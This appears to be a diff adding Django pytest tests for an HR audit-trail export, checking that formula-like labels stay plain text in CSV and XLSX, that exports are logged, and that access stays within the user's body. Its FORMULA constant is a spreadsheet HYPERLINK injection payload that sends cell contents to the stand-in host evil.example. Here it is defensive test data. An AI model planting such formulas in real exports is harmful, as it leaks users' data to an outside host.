@@ -1,0 +1,70 @@
+"""HR exports its body's trail as CSV or XLSX: the filtered entries, every text kept as text
+(core/exports.py), and the export itself recorded."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from openpyxl import load_workbook
+
+from agilepa.audit import services as audit
+from agilepa.audit.models import AuditEntry
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Apri")'
+
+
+def client_of(user) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+@pytest.fixture
+def trail(world):
+    audit.record("person.update", body=world.a.body, label=FORMULA, person=world.a.colleague)
+    audit.record("unit.update", body=world.a.body, label="Servizio Anagrafe")
+    audit.record("person.update", body=world.b.body, label="Foreign body")
+
+
+def test_the_csv_holds_the_filtered_entries_with_formulas_as_text(world, trail) -> None:
+    response = client_of(world.users["hr_admin"]).get(
+        f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "action": "person.update"}
+    )
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment" in response["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    labels = [row[7] for row in rows[1:]]
+    assert labels == ["'" + FORMULA]
+
+
+def test_the_xlsx_keeps_a_formula_like_text_as_text(world, trail) -> None:
+    response = client_of(world.users["hr_admin"]).get(
+        f"/b/{world.a.body.slug}/audit/export/", {"format": "xlsx"}
+    )
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[7] for row in sheet.iter_rows(min_row=2)]
+    assert {c.value for c in cells} == {FORMULA, "Servizio Anagrafe"}
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_an_export_is_itself_recorded(world, trail) -> None:
+    client_of(world.users["hr_admin"]).get(
+        f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "actor": "hr@"}
+    )
+    export = AuditEntry.objects.get(action="audit.export")
+    assert export.body_id == world.a.body.pk
+    assert export.actor_label == "hr@a.it"
+    assert export.changes == {"format": "csv", "filters": {"actor": "hr@"}, "rows": 0}
+
+
+def test_another_bodys_hr_cannot_export_this_bodys_trail(world, trail) -> None:
+    response = client_of(world.users["hr_admin"]).get(f"/b/{world.b.body.slug}/audit/export/")
+    assert response.status_code == 404
+    assert not AuditEntry.objects.filter(action="audit.export").exists()
